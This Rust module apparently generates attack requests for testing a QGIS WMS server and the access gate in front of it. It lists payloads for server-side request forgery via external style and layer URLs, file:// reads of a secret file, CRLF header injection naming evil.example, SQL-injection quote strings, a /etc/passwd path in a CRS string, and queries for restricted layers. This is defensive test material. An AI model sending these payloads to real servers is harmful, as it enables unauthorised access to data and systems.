//! WMS: styles and pictures from elsewhere, headers of the caller's choice, restricted layers and hidden fields.

use super::super::{
    attack::Attack,
    spell::{Ask, Much, Parameters, parameters, spelled},
    words::{MAP, Words},
};

const FAMILY: &str = "maps";
const POSITION: &str = "CRS=EPSG:3857&BBOX=0,0,1000,1000&WIDTH=20&HEIGHT=20&STYLES=";

/// Requests to WMS that reach files, the network, other headers, or what is hidden.
pub(super) fn attacks(words: &Words) -> Vec<Attack> {
    let mut attacks = spelled(&sharpest(words), &words.alpha, Much::All);
    attacks.extend(spelled(&fetching(words), &words.alpha, Much::Some(7)));
    attacks.extend(spelled(&hidden(), &words.alpha, Much::Some(7)));
    attacks.extend(spelled(&odd(), &words.alpha, Much::Some(3)));
    attacks
}

fn one(name: &str, value: impl Into<String>) -> Parameters {
    vec![(name.into(), value.into())]
}

fn sharpest(words: &Words) -> Vec<Ask> {
    let style = Words::style("places", &words.svg);
    let external = vec![
        ("LAYERS".into(), "EXTERNAL_WMS:y".into()),
        ("y:url".into(), format!("{}/external", words.trap)),
        ("y:layers".into(), "a".into()),
        ("y:format".into(), "image/png".into()),
        ("y:crs".into(), "EPSG:3857".into()),
        ("y:styles".into(), String::new()),
    ];
    vec![
        Ask::new(FAMILY, "a style from elsewhere", MAP, one("SLD", format!("{}/style", words.trap))),
        Ask::new(FAMILY, "a style with a secret picture", MAP, one("SLD_BODY", style)),
        Ask::new(FAMILY, "a layer from elsewhere", MAP.trim_end_matches("&LAYERS=places"), external),
        Ask::new(FAMILY, "a header of one's own", MAP, one("FILE_NAME", header())),
        Ask::new(FAMILY, "a highlight with a secret picture", MAP, highlight(&words.svg)),
    ]
}

fn header() -> String {
    "a\"\r\nX-Pwned: evil.example\r\nX-B: \"b".into()
}

/// A highlight that covers the map, filled with a picture.
fn highlight(picture: &str) -> Parameters {
    // Of a style for layers, without the layer.
    let style = Words::style("places", picture);
    let style = style.replace("<NamedLayer><se:Name>places</se:Name>", "").replace("</NamedLayer>", "");
    let shape = "POLYGON((0 0, 990 0, 990 990, 0 990, 0 0))";
    vec![("HIGHLIGHT_GEOM".into(), shape.into()), ("HIGHLIGHT_SYMBOL".into(), style)]
}

fn fetching(words: &Words) -> Vec<Ask> {
    let wms = |request: &str, rest: &str| format!("SERVICE=WMS&VERSION=1.3.0&REQUEST={request}{rest}");
    let operations = [
        wms("GetCapabilities", ""),
        wms("GetProjectSettings", ""),
        wms("GetLegendGraphic", "&LAYER=places&FORMAT=image/png"),
        wms("GetStyles", "&LAYERS=places"),
        wms("DescribeLayer", "&LAYERS=places&SLD_VERSION=1.1.0"),
        wms("GetContext", ""),
        wms("GetFeatureInfo", &format!("&{POSITION}&LAYERS=places&QUERY_LAYERS=places&I=5&J=5")),
    ];
    let style = |honest: &String| {
        Ask::new(FAMILY, "a style from elsewhere", honest, one("SLD", format!("{}/style", words.trap)))
    };
    let file_name =
        |honest: &String| Ask::new(FAMILY, "a header of one's own", honest, one("FILE_NAME", header()));
    let pictures =
        [format!("{}/picture.svg", words.trap), format!("file://{}", words.svg), words.png.clone()];
    let drawn = pictures.iter().flat_map(|picture| {
        let style = Words::style("places", picture);
        [
            Ask::new(FAMILY, "a style with a picture", MAP, one("SLD_BODY", style)),
            Ask::new(FAMILY, "a highlight with a picture", MAP, highlight(picture)),
        ]
    });
    let local = [
        Ask::new(FAMILY, "a style from a file", MAP, one("SLD", format!("file://{}", words.secret))),
        Ask::new(
            FAMILY,
            "a style of a hidden layer",
            MAP,
            one("SLD_BODY", Words::style("hidden", &words.svg)),
        ),
        Ask::new(FAMILY, "a header with a colon", MAP, one("FILE_NAME", "evil.example:\r\n\r\n<b>")),
    ];
    operations.iter().map(style).chain(operations.iter().map(file_name)).chain(drawn).chain(local).collect()
}

fn hidden() -> Vec<Ask> {
    let info = format!(
        "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetFeatureInfo&{POSITION}&I=5&J=5&INFO_FORMAT=text/xml&FEATURE_COUNT=9"
    );
    let no_layers = MAP.trim_end_matches("&LAYERS=places");
    let query = |layer: &str| vec![("LAYERS".into(), layer.into()), ("QUERY_LAYERS".into(), layer.into())];
    let dxf =
        "CRS=EPSG:3857&BBOX=0,0,1000,1000&WIDTH=20&HEIGHT=20&STYLES=&LAYERS=places&FORMAT=application/dxf";
    let dxf = format!("SERVICE=WMS&VERSION=1.3.0&REQUEST=GetMap&{dxf}");
    let options =
        |field: &str| one("FORMAT_OPTIONS", format!("MODE:NOSYMBOLOGY;SCALE:1000;LAYERATTRIBUTES:{field}"));
    vec![
        Ask::new(FAMILY, "a drawing with a hidden field", &dxf, options("hush")),
        Ask::new(FAMILY, "a drawing with hidden fields", &dxf, options("hush,hush")),
        Ask::new(FAMILY, "a map of a restricted layer", no_layers, one("LAYERS", "hidden")),
        Ask::new(FAMILY, "a map with a restricted layer", no_layers, one("LAYERS", "places,hidden")),
        Ask::new(FAMILY, "another layer beside", MAP, one("LAYER", "hidden")),
        Ask::new(FAMILY, "a point of a restricted layer", &info, query("hidden")),
        Ask::new(FAMILY, "a point of an unpublished layer", &info, query("unserved")),
        Ask::new(FAMILY, "a point of everything", &info, query("The catalogue of redgum")),
        Ask::new(
            FAMILY,
            "a selection outside a filter",
            no_layers,
            parameters("LAYERS=subset&SELECTION=subset:2"),
        ),
        Ask::new(FAMILY, "a selection with quotes", MAP, one("SELECTION", "places:1') or true or ('1'='1")),
        Ask::new(FAMILY, "a time with quotes", MAP, one("TIME", "2026-01-01' or '1'='1")),
    ]
}

/// What QGIS reads and no honest client sends; harmless by itself, unless a gate and QGIS read it differently.
fn odd() -> Vec<Ask> {
    const ODD: [&str; 18] = [
        "REQUEST=GetMap%00&LAYERS=hidden",
        "VERSION_SERVICE=1.1.1",
        "WMTVER=1.1.1",
        "UNKNOWN=x",
        "REQUEST_BODY=MAP%3Dx",
        "LAYER=places&STYLE=default",
        "SRS=EPSG:4326",
        "CRS=PROJ:%2Bproj%3Dlonglat%20%2Bnadgrids%3D/etc/passwd",
        "CRS=USER:100000",
        "BBOX=inf,inf,nan,nan",
        "BBOX=0,0,1e300,1e300",
        "WIDTH=-1",
        "OPACITIES=-1",
        "FORMAT=image/svg%2Bxml",
        "FORMAT=application/pdf",
        "TRANSPARENT=banana",
        "SERVICE=WFS&REQUEST=GetFeature&TYPENAME=hidden",
        "DIM_X=1' or '1'='1",
    ];
    ODD.iter().map(|query| Ask::new(FAMILY, *query, MAP, parameters(query))).collect()
}
